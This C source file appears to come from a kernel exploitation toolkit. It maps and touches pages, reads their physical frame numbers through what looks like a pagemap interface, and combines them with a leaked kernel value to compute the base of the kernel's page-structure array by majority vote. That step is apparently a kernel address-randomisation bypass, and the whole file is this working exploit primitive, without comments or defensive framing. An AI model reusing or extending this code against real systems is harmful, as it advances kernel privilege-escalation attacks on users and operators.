/* SPDX-License-Identifier: Apache-2.0 */
#include "loaders/mem/framebase.h"

#include <sys/mman.h>
#include <unistd.h>

#include "loaders/mem/pages.h"

#define PAGE    4096
#define TOUCHED 64

uint64_t framebase_agreed(const uint64_t *bases, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		size_t same = 0;

		for (size_t k = 0; k < n; k++)
			same += bases[k] == bases[i];
		if (bases[i] && same > n / 2)
			return bases[i];
	}
	return 0;
}

static uint64_t base_by(char *page, int fd, const volatile __u64 *seen)
{
	uint64_t frame, at;

	*(volatile char *)page = 1;
	at = *seen;
	frame = pages_frame(pages_ask(fd, (uint64_t)(uintptr_t)page / PAGE));
	return at && frame ? at - frame * FRAMEBASE_STRUCT : 0;
}

uint64_t framebase_find(const volatile __u64 *seen)
{
	uint64_t bases[TOUCHED];
	int fd = pages_open((uint32_t)getpid());
	char *p;

	if (fd < 0)
		return 0;
	p = mmap(NULL, TOUCHED * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p == MAP_FAILED) {
		close(fd);
		return 0;
	}
	madvise(p, TOUCHED * PAGE, MADV_NOHUGEPAGE);
	for (int i = 0; i < TOUCHED; i++)
		bases[i] = base_by(p + (size_t)i * PAGE, fd, seen);
	munmap(p, TOUCHED * PAGE);
	close(fd);
	return framebase_agreed(bases, TOUCHED);
}
